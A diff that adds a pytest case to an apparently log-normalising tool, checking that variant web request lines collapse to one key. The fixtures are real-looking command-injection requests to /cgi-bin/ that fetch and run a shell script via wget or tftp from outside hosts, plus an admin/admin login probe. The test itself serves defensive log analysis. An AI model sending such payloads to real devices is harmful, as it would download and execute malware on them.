@@ -147,6 +147,22 @@ def test_varying_values_collapse(variants):
     assert len({normalise(v) for v in variants}) == 1
 
 
+@pytest.mark.parametrize("variants", [
+    # URL-encoded download address and port, outside any name=value
+    ["GET /cgi-bin/;cd%20%2Ftmp%3Bwget%20http%3A%2F%2F1.2.3.4%3A8080%2Fb.sh HTTP/1.1",
+     "GET /cgi-bin/;cd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.77%3A52869%2Fb.sh HTTP/1.1"],
+    ["GET /cgi-bin/;wget%20http%3A%2F%2Fevil.example.net%3A81%2Fb.sh HTTP/1.1",
+     "GET /cgi-bin/;wget%20http%3A%2F%2Fcdn7.other.org%3A8080%2Fb.sh HTTP/1.1"],
+    # an address right after an encoded space
+    ["GET /cgi-bin/;tftp%20-g%20-r%20m%201.2.3.4;sh%20m HTTP/1.1",
+     "GET /cgi-bin/;tftp%20-g%20-r%20m%20198.51.100.7;sh%20m HTTP/1.1"],
+    # an empty value is a value
+    ["GET /login.cgi?user=&pass= HTTP/1.1", "GET /login.cgi?user=admin&pass=admin HTTP/1.1"],
+])
+def test_encoded_and_empty_values_collapse(variants):
+    assert len({normalise(v) for v in variants}) == 1
+
+
 def test_different_paths_stay_different():
     paths = ["GET / HTTP/1.1", "GET /index.html HTTP/1.1", "GET /favicon.ico HTTP/1.1", "GET /robots.txt HTTP/1.1",
              "GET /shell?cd+/tmp HTTP/1.1", "GET /board.cgi?cmd=x HTTP/1.0", "GET /v1/api HTTP/1.1",
